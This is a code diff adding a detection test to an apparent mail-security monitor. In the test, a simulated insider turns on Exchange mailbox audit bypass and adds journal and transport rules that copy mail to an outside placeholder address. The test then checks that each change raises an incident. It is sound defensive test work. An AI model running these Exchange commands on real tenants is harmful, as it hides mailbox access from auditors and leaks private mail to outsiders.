@@ -12,6 +12,53 @@ use super::{
 };
 use crate::{exit::Failure, output::Output};
 
+/// He has his own reads of mail left out of the audit log, and copies of mail sent to himself.
+async fn hide_in_exchange(
+    site: &Site,
+    report: &mut Report,
+    output: &Output,
+) -> Result<(), Failure> {
+    output.note("in Exchange he bypasses the audit, and has mail copied");
+    let him = site.mailbox(0)?;
+    let bypass = json!({ "Identity": him, "AuditBypassEnabled": "True" });
+    site.exchange("Set-MailboxAuditBypassAssociation", &bypass).await?;
+    let journal = json!({ "Name": "Archive", "JournalEmailAddress": "box@elsewhere.example" });
+    site.exchange("New-JournalRule", &journal).await?;
+    let rule = json!({ "Name": "Signature", "BlindCopyTo": "box@elsewhere.example" });
+    site.exchange("New-TransportRule", &rule).await?;
+    report.at("the audit is bypassed, and mail is copied");
+    let found = site.reconcile().await?;
+    report.at("the alarm from Exchange's log");
+    for (what, kind, subject) in [
+        (
+            "that the audit is bypassed is an incident, with who did it and what was before",
+            IncidentKind::ProtectionOff,
+            "audit_bypass",
+        ),
+        ("a journal rule is one, with who added it", IncidentKind::ExchangeChanged, "journal_rule"),
+        (
+            "a transport rule is one, with who added it",
+            IncidentKind::ExchangeChanged,
+            "transport_rule",
+        ),
+    ] {
+        let incidents = found.incidents.iter().map(|(_, incident)| incident);
+        let of_kind =
+            |one: &&mailkeep_sentry::Incident| one.kind == kind && one.subject.starts_with(subject);
+        let evidence = incidents.filter(of_kind).flat_map(|one| &one.evidence).next();
+        report.expect(
+            what,
+            evidence.is_some_and(|one| {
+                one.address == Some(super::acts::elsewhere())
+                    && one.text.contains("admin@")
+                    && one.text.contains("; before: ")
+            }),
+            evidence.map_or_else(|| "nothing".to_owned(), |one| one.text.clone()),
+        );
+    }
+    Ok(())
+}
+
 /// What is there before the day begins.
 pub(super) async fn prepare(site: &Site, output: &Output) -> Result<(), Failure> {
     output.note("the applications are locked to our addresses by Conditional Access");
@@ -89,6 +136,8 @@ pub(super) async fn play(site: &Site, report: &mut Report, output: &Output) -> R
             && kinds(&looked, IncidentKind::Tampered) == 1,
         titles(looked.incidents.iter().map(|(_, incident)| incident)),
     );
+
+    hide_in_exchange(site, report, output).await?;
 
     output.note("then he switches the auditor off, so that nobody looks");
     let change = json!({ "enabled": false });
